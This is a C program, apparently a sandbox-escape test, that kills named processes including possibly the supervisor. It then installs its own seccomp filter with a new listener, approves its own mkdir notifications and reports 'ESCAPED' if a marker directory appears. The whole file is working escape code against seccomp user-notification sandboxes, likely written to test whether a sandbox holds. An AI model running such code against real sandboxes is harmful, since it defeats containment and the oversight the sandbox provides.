/* Attack: take user notifications over. Kill every process we can name (the
 * supervisor among them, if visible), then install our own filter with
 * SECCOMP_FILTER_FLAG_NEW_LISTENER (the kernel allows it once the old
 * listener is gone) that notifies mkdir, answer our own notification with
 * SECCOMP_USER_NOTIF_FLAG_CONTINUE (among equal USER_NOTIF results the newest
 * filter wins), and mkdir(MARKER). Exit 0 when the directory exists.
 *   listener_takeover MARKER [--no-kill | PID...]   (see targets.h for whom it kills) */
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include "targets.h"

static int listener = -1;

static void *answer(void *arg) {
  (void)arg;
  for (;;) {
    struct seccomp_notif n;
    memset(&n, 0, sizeof n);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &n) != 0) { if (errno == EINTR || errno == ENOENT) continue; return NULL; }
    struct seccomp_notif_resp r;
    memset(&r, 0, sizeof r);
    r.id = n.id;
    r.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
  }
}

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: listener_takeover MARKER [--no-kill]\n"); return 2; }
  if (argc < 3 || strcmp(argv[2], "--no-kill")) {
    pid_t t[256];
    int n = attack_targets(argc, argv, 2, t, 256);
    for (int i = 0; i < n; i++) {
      int r = kill(t[i], SIGKILL);
      printf("pid %d: SIGKILL: %s\n", (int)t[i], r ? strerror(errno) : "sent");
    }
  }
  struct sock_filter f[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdir, 1, 0),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_mkdirat, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog p = {sizeof f / sizeof f[0], f};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  int last = 0;
  for (int tries = 0; tries < 100 && listener < 0; tries++) {
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p);
    if (fd >= 0) listener = (int)fd;
    else { last = errno; usleep(10000); }
  }
  if (listener < 0) {
    printf("own listener: %s\n", strerror(last));
  } else {
    printf("own listener: fd %d\n", listener);
    pthread_t th;
    pthread_create(&th, NULL, answer, NULL);
  }
  int r = mkdir(argv[1], 0755);
  printf("mkdir: %s\n", r ? strerror(errno) : "done");
  struct stat sb;
  int escaped = stat(argv[1], &sb) == 0;
  printf(escaped ? "ESCAPED\n" : "contained\n");
  fflush(stdout);
  _exit(escaped ? 0 : 1);
}
